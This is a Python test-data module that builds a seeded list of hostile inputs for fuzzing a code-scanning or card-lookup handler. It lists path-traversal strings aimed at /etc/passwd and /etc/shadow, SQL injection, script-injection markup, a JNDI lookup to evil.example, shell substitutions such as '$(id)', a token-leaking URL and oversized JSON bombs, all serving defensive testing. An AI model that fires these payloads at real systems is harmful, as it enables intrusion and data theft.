"""Texts that somebody may print as a code to do harm; the same ones at every run."""

from __future__ import annotations

import json
import random

_CONTROLS = [chr(number) for number in (*range(0x20), 0x7F, *range(0x80, 0xA0))]
_HIDDEN = ["\u200b", "\u200d", "\u202a", "\u202e", "\u2066", "\u2069", "\ufeff", "\u00ad", "\u2028", "\u2029"]
_ODD = ["\ue000", "\udc80", "\ufffe", "\U000e0041", "\U0010ffff"]
_FOLDED = [
    "２９０",
    "①②③",
    "ﬁ",
    "ﷺ",
    "Ⅳ",
    "½",
    "℀",
    "．．／",
    "＜script＞",
    "％００",
    "ＳＥＬＥＣＴ",
    "\u0041\u030a" * 9,
]
_PATHS = [
    "../../users/actions/login", "..%2f..%2fcustomers", "%2e%2e/", "/etc/passwd", "C:\\Windows\\win.ini",
    "file:///etc/shadow", "\\\\evil\\share", "2900000000018/../../customers", "~root", "NUL", "|reboot",
]  # fmt: skip
_QUERIES = [
    "1&customer_id=1", "1?count=99999", "1#top", "1;DROP TABLE card", "card_number[]=1", "1%00",
    "1%0d%0aX: y",
    "a=b&a=c", "+", "%", "%zz", "{card}", "1 HTTP/1.1", "\u00e9=1",
]  # fmt: skip
_MARKUP = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<a href='http://evil.example'>x</a>",
    "<b>29</b>", "&lt;b&gt;", "<!--", "]]>",
    "${jndi:ldap://evil.example/a}", "{{7*7}}", "#{7*7}", "`id`", "$(id)",
]  # fmt: skip
_FORMATS = ["%s%s%s%n", "%x" * 20, "{0.__class__}", "{event}", "%(message)s", "{}" * 30, "$HOME", "%PATH%"]
_SQL = [
    "' OR '1'='1",
    "1; DROP TABLE customers;--",
    "' UNION SELECT password FROM users--",
    '" OR ""="',
    "1' AND SLEEP(9)--",
]
_URLS = [
    "http://evil.example/?token=AAAAAA", "https://a.crmcarecloud.com@evil.example/x", "javascript:alert(1)",
    "data:text/html,<b>",
    "intent://x#Intent;end", "wifi:T:WPA;S:x;P:y;;", "tel:112", "smsto:1:x", "mailto:a@b.cz",
    "otpauth://totp/x", "https://evil.example/#" + "A" * 300, "HTTP://[::1]/", "http://127.0.0.1:80/admin", "ldap://x",
]  # fmt: skip
_BOMBS = [
    json.dumps({"token": "A" * 4000}), "[" * 900, "{" * 900, '{"a":' * 200, '{"token":null,"x":1e9999}',
    '{"token":{"$ne":1}}', "9" * 4096, "A" * 4096, "\u00e9" * 4000, "0" * 1024, "1" * 1025, "ﷺ" * 100,
]  # fmt: skip
_PLAIN = [
    "2900000000018",
    "KL000000017",
    "0000000000000",
    "-1",
    "1e9",
    "0x10",
    "NaN",
    "null",
    "true",
    "00",
    " 1 ",
]
_PARTS = [_CONTROLS, _HIDDEN, _ODD, _FOLDED, _PATHS, _QUERIES, _MARKUP, _FORMATS, _SQL, _URLS, _BOMBS, _PLAIN]


def hostile_codes(count: int = 2000, seed: int = 20261125) -> list[str]:
    """Each part by itself, then parts put together, some cut and some shuffled; no two alike."""
    chance = random.Random(seed)
    codes = dict.fromkeys(each for parts in _PARTS for each in parts)
    while len(codes) < count:
        pieces = [chance.choice(chance.choice(_PARTS)) for _ in range(chance.randint(1, 4))]
        text = chance.choice(["", " ", "&", "/", "29", "\x1d", "%"]).join(pieces)
        if chance.random() < 0.3:
            text = text[: chance.randint(1, 64)]
        if chance.random() < 0.1:
            text = text.upper()
        codes[text] = None
    return list(codes)[:count]
